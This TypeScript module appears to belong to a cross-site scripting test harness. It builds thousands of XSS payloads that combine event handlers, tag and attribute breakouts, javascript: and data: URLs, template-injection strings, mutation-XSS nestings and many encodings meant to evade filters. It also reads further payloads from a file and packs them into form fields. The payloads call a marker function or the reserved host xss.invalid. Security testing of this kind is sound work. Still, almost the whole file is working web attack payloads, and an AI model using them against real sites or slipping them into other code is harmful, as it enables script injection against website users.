import { readFileSync } from 'node:fs'

/** A script in one of its many disguises. Where it runs it calls `xss` with its number, or asks a strange address for it. */
type Disguise = (n: number) => string

const calls: Disguise[] = [
  (n) => `xss(${n})`,
  (n) => `xss\`${n}\``,
  (n) => `self['xss'](${n})`,
  (n) => `top['x'+'ss'](${n})`,
  (n) => `(0,xss)(${n})`,
  (n) => `[${n}].map(xss)`,
  (n) => `eval('xss(${n})')`,
  (n) => `setTimeout('xss(${n})')`,
  (n) => `Function('xss(${n})')()`,
  (n) => `\\u0078ss(${n})`,
  (n) => `xss/**/(${n})`,
  (n) => `import('data:text/javascript,xss(${n})')`,
  (n) => `fetch('//xss.invalid/${n}')`,
  (n) => `new/**/Image().src='//xss.invalid/${n}'`,
  (n) => `location='javascript:xss(${n})'`,
  (n) => `{onerror=xss;throw/**/${n}}`,
]

/** Elements that run their handler by themselves. */
const firing = (
  'img src=x:error|svg:load|body:load|video><source:error|audio src=x:error|iframe:load|input autofocus:focus|' +
  'details open:toggle|marquee:start|object data=x:error|embed src=x:error|link rel=stylesheet href=x:error|' +
  'style:load|script src=x:error|select autofocus:focus|textarea autofocus:focus|keygen autofocus:focus|' +
  'a href=# tabindex=0 autofocus:focus|math tabindex=0 autofocus:focus|svg><set attributeName=x:begin|' +
  'svg><animate attributeName=x dur=1s:begin|svg><image href=x:error|p contenteditable autofocus:focus|' +
  'div style=animation:x:animationstart|div style=transition:all 1s:transitionend|xss-x tabindex=0 autofocus:focus|' +
  'button popovertarget=x autofocus:focus|input type=image src=x:error|image src=x:error|frameset:load'
)
  .split('|')
  .map((one) => one.split(/:(?=\w+$)/) as [string, string])

const handlers =
  'abort afterprint animationend auxclick beforecopy beforecut beforeinput beforepaste beforeprint beforetoggle blur cancel canplay change click close contextmenu copy cuechange cut dblclick drag dragend dragenter dragover dragstart drop durationchange ended error focus focusin focusout fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadend loadstart message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste play playing pointerdown pointerenter pointerover pointerrawupdate popstate progress reset resize scroll scrollend search seeked select selectionchange selectstart submit timeupdate toggle touchstart transitionrun unload volumechange wheel'.split(
    ' ',
  )

const tags =
  'a abbr area article b blink button custom-x details div dialog font form h1 input label li math p q s select svg table'.split(
    ' ',
  )

/** How a handler is written into a tag. */
const formats: ((tag: string, handler: string, call: string) => string)[] = [
  (tag, on, call) => `<${tag} on${on}=${call}>`,
  (tag, on, call) => `<${tag} on${on}="${call}">`,
  (tag, on, call) => `<${swapped(tag)} oN${swapped(on)}='${call.replaceAll("'", '"')}'>`,
  (tag, on, call) => `<${tag.replaceAll(' ', '/')}/on${on}=${call}//>`,
  (tag, on, call) => `<${tag.replaceAll(' ', '\t')}\non${on}\f=\v${call}>`,
  (tag, on, call) => `<${tag} on${on}=${call}//`,
  (tag, on, call) => `<${tag} on${on}="${entities(call, 10)}">`,
  (tag, on, call) => `<${tag} on${on}=${entities(call, 16)}>`,
  (tag, on, call) => `<<${tag} x="<b>" on${on}=\`${call}\`>`,
  (tag, on, call) => `<${tag} \u0001=1 on${on}=${call} \u007f>`,
  (tag, on, call) => `<${tag} on${on}="&Tab;${call}&NewLine;;">x</${tag.split(/\W/, 1)}>`,
  (tag, on, call) => `&lt;${tag} on${on}=${call}&gt;`,
  (tag, on, call) => `<x:${tag} on${on}=${call} xmlns:x="http://www.w3.org/1999/xhtml">`,
]

/** What ends the place that a text stands in: attributes, elements, comments, scripts, styles, JSON. */
const breakouts =
  '"> |\'> |--> |--!> |*/--> |</script> |</style> |</title> |</textarea> |</noscript> |</template> |</select> |]]> |?> |%> |</svg> |</math> |"/></a> |`> |\\"> |}}"> |"}]</script> |</iframe> |</xmp> |<!--<script>--></script> |</option></select> |\\u0022\\u003e |&quot;&gt; |" x=" |\u2028"> '
    .split(' |')
    .map((one) => one.trimEnd())

const scripts: Disguise[] = [
  (n) => `<script>xss(${n})</script>`,
  (n) => `<ScRiPt>xss(${n})</sCrIpT>`,
  (n) => `<script/x>xss(${n})</script/x>`,
  (n) => `<script\n>xss(${n})</script\n>`,
  (n) => `<script src=data:,xss(${n})></script>`,
  (n) => `<script type=module>xss(${n})</script>`,
  (n) => `<svg><script>xss&lpar;${n}&rpar;</script>`,
  (n) => `<scr<script>ipt>xss(${n})</scr</script>ipt>`,
  (n) => `<script>/*</script>*/xss(${n})</script>`,
  (n) => `<script src=//xss.invalid/${n}></script>`,
  (n) => `<style>*{x:expression(xss(${n}));background:url(//xss.invalid/${n})}</style>`,
  (n) => `<style>@import'data:text/css,*{x:xss(${n})}'</style>`,
  (n) => `<template shadowrootmode=open><script>xss(${n})</script></template>`,
]

const addresses: Disguise[] = [
  (n) => `javascript:xss(${n})`,
  (n) => `JaVaScRiPt:xss(${n})`,
  (n) => `java\tscript:xss(${n})`,
  (n) => `java\nscript:xss(${n})`,
  (n) => `\u0001javascript:xss(${n})`,
  (n) => `javascript&colon;xss(${n})`,
  (n) => `&#106;avascript:xss(${n})`,
  (n) => `javascript:%78ss(${n})`,
  (n) => `javascript://x%0axss(${n})`,
  (n) => `javascript:"<script>xss(${n})</script>"`,
  (n) => `data:text/html,<script>xss(${n})</script>`,
  (n) => `data:text/html;base64,${btoa(`<script>top.xss(${n})</script>`)}`,
  (n) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss(${n})'/>`,
  (n) => `vbscript:xss(${n})`,
  (n) => `view-source:javascript:xss(${n})`,
  (n) => `//xss.invalid/${n}`,
  (n) => `https:xss.invalid/${n}`,
  (n) => `\\\\xss.invalid\\${n}`,
]

/** Where an address stands: `@`. */
const carriers =
  '<a href="@">x</a>|<a href=@>x|<iframe src="@">|<form action="@"><input autofocus>|<button form=x formaction="@">|<object data="@">|<embed src="@">|<svg><a xlink:href="@"><text>x|<math href="@">x|<area href="@">|<base href="@">|<link rel=import href="@">|<meta http-equiv=refresh content="0;url=@">|<img src="@">|<body background="@">|<svg><use href="@">|<svg><script href="@"/>|<svg><animate attributeName=href values="@">|[x](@)|![x](@)|<@>|[x]: @ "x"|<iframe srcdoc="@">|<b style="background:url(@)">|<video poster="@">|<input type=image src="@">|"><a href="@">|\'><iframe src="@">|@'.split(
    '|',
  )

/** Ends of a text in a script, JSON or a query. */
const stringEnds = `"|'|\\"|\\'|\`|"]|"}|'}|*/|\\n|\${|"-|'-|');|"));`.split('|')
const tails = ['//', ';"', "-'", ' <!--']

/** Templates of page, server and mail languages: `@` is evaluated. */
const templates =
  // biome-ignore lint/suspicious/noTemplateCurlyInString: they are for other engines.
  '{{@}}|{{{@}}}|${@}|#{@}|<%= @ %>|{%@%}|[[@]]|*{@}|@{@}|{@}|<#assign x=@>|{{constructor.constructor("@")()}}|{{$on.constructor("@")()}}|${{@}}|[(@)]|<x v-html="@">|<p x-init="@">|<b ng-init="@">|{{"a".sub.call.call("@")}}'.split(
    '|',
  )

const outers =
  '<svg>|<math>|<svg><foreignObject>|<math><mtext>|<math><annotation-xml encoding=text/html>|<svg><desc>|<svg></p>|<select>|<table>|<noscript>|<template>|<form><math><mtext></form><form>|<math><mtext><table><mglyph>|<option>|<a><svg><a>|<div><table><svg><style>'.split(
    '|',
  )
const inners =
  '<style><!--</style>|<style><a title="</style>|<title><a id="</title>|<textarea><p title="</textarea>|<xmp><p title="</xmp>|<noscript><p title="</noscript>|<iframe><p title="</iframe>|<noembed><p id="</noembed>|<!--><p title="-->|<![CDATA[><p title="]]>'.split(
    '|',
  )

const encoders: ((text: string) => string)[] = [
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => entities(text, 10),
  (text) => entities(text, 16),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E').replaceAll(' ', '%20'),
  (text) => text.replaceAll('<', '%253C').replaceAll('>', '%253E'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => text.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '\u00bc').replaceAll('>', '\u00be'),
  (text) => text.replaceAll('<', '<\u200b').replaceAll(' ', '\u00a0'),
]

const swapped = (text: string) => text.replace(/[a-z]/g, (sign, at) => (at % 2 ? sign.toUpperCase() : sign))

const entities = (text: string, base: 10 | 16) =>
  text.replace(/[^\d\n]/g, (sign) => `&#${base === 16 ? 'x' : ''}${sign.charCodeAt(0).toString(base)};`)

/** `at` counts the pairs, to walk through further lists beside them. */
const cross = <A, B>(as: readonly A[], bs: readonly B[], make: (a: A, b: B, at: number) => Disguise) =>
  as.flatMap((a, row) => bs.map((b, column) => make(a, b, row * bs.length + column)))

const nth = <T>(all: readonly T[], at: number): T => all[at % all.length] as T
const into = (form: string, text: string) => form.replaceAll('@', () => text)

function disguises(): Disguise[] {
  const inTag =
    ([tag, on]: [string, string], format: number, call: number): Disguise =>
    (n) =>
      nth(formats, format)(tag, on, nth(calls, call)(n))
  return [
    ...tags.map(
      (tag): Disguise =>
        (n) =>
          `<${tag} onx=xss(${n})`,
    ),
    ...cross(handlers, tags, (on, tag, at) => inTag([tag, on], at, at >> 3)),
    ...[0, 5].flatMap((turn) =>
      cross(firing, breakouts, (one, end, at) => {
        const tag = inTag(one, at + turn, at + turn)
        return (n) => end + tag(n)
      }),
    ),
    ...[0, 4, 11].flatMap((turn) =>
      cross(firing, formats, (one, _, at) => inTag(one, at, Math.floor(at / formats.length) + turn)),
    ),
    ...['"', "'", ''].flatMap((quote) =>
      cross(addresses, carriers, (address, form) => (n) => into(form.replaceAll('"', quote), address(n))),
    ),
    ...cross(breakouts, scripts, (end, script) => (n) => end + script(n)),
    ...cross(stringEnds, calls, (end, call, at) => (n) => `${end};${call(n)}${nth(tails, at)}`),
    ...cross(templates, calls, (form, call) => (n) => into(form, call(n))),
    ...cross(outers, inners, (outer, inner) => (n) => `${outer}${inner}<img src=x onerror=xss(${n})>">`),
    ...cross(encoders, firing, (encode, one) => (n) => encode(inTag(one, 0, 0)(n))),
  ]
}

/** Thousands of payloads, the same in each run, no two of one shape. */
export function madePayloads(): string[] {
  const shapes = new Map(disguises().map((one) => [one(7), one]))
  return [...shapes.values()].map((one, at) => one(at + 1))
}

/** Those of other people: the lines of the file that `XSS_PAYLOADS` names. */
export function givenPayloads(): string[] {
  const file = process.env.XSS_PAYLOADS
  if (file === undefined) return []
  const lines = readFileSync(file, 'utf8').split(/\r?\n/)
  return [...new Set(lines.map((line) => line.trim().toWellFormed().replaceAll('\0', '')))].filter(Boolean)
}

export type Fits = (payload: string) => boolean
/** Documents and XML have no control characters. */
export const isPrintable: Fits = (one) => !/[^\P{Cc}\n\t]/u.test(one)
/** As a form and a file system can hold it. */
export const inFileName: Fits = (one) => /^[ -~]+$/.test(one) && !/[\\/"]/.test(one)

export interface Turns {
  /** The next payload that is short enough. */
  next(max: number, fits?: Fits): string
  /** The next payloads, one a line, as many as a field takes. */
  filled(max: number, fits?: Fits): string
}

/** Payloads in turn, for fields that hold some of them; those side by side are of different kinds. */
export function inTurns(payloads: readonly string[]): Turns {
  const step = payloads.length % 997 === 0 ? 1 : 997
  let at = 0
  const next: Turns['next'] = (max, fits = () => true) => {
    for (let tries = 0; tries < payloads.length; tries++) {
      const one = nth(payloads, at++ * step)
      if (one.length <= max && fits(one)) return one
    }
    throw new Error(`No payload suits a field of ${max} characters`)
  }
  const filled: Turns['filled'] = (max, fits) => {
    let text = next(max, fits)
    for (;;) {
      const more = `${text}\n${next(200, fits)}`
      if (more.length > max) return text
      text = more
    }
  }
  return { next, filled }
}

/** A text with the payloads that are its lines. */
export interface Packed {
  text: string
  payloads: string[]
}

/** All payloads but those that are too long, in as few texts as a field's limit allows. */
export function packed(payloads: readonly string[], max: number): Packed[] {
  const texts: Packed[] = []
  for (const one of payloads.filter(({ length }) => length <= max)) {
    const last = texts.at(-1)
    if (last && last.text.length + one.length < max) {
      last.text += `\n${one}`
      last.payloads.push(one)
    } else texts.push({ text: one, payloads: [one] })
  }
  return texts
}
